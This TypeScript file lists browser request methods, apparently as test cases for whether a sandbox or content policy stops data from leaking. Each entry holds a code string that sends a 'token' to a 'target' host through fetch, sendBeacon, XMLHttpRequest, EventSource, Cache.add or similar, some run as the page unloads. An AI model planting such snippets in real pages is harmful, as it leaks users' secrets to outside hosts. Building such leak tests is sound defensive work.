import { address, type Escape, file, quietly } from '../escape'

/** What scripts ask for by name. */
export const requests: readonly Escape[] = [
  { name: 'fetch with a query', short: true, code: `await fetch(${address}, ${quietly})` },
  { name: 'fetch with a body', short: true, code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', body: token })` },
  {
    name: 'fetch of a known file with a header',
    short: true,
    code: `await fetch(target + '/', { headers: { 'accept-language': token }, mode: 'no-cors', cache: 'reload' })`,
  },
  {
    name: 'keepalive fetch',
    short: true,
    code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: token })`,
  },
  { name: 'fetchLater', code: `fetchLater(${address}, { activateAfter: 0 })` },
  { name: 'XMLHttpRequest', short: true, code: `const x = new XMLHttpRequest(); x.open('GET', ${address}); x.send()` },
  { name: 'XMLHttpRequest with a body', code: `const x = new XMLHttpRequest(); x.open('POST', target + '/x'); x.send(token)` },
  { name: 'sendBeacon', short: true, code: `navigator.sendBeacon(target + '/x', token)` },
  {
    name: 'sendBeacon as the page goes',
    code: `addEventListener('pagehide', () => navigator.sendBeacon(target + '/x', token)); location.href = 'about:blank'`,
  },
  { name: 'EventSource', short: true, code: `new EventSource(${address})` },
  { name: 'Cache.add', short: true, code: `await (await caches.open('z')).add(${address})` },
  { name: 'WebAssembly in a stream', code: `await WebAssembly.compileStreaming(fetch(${file('wasm')}, ${quietly}))` },
]
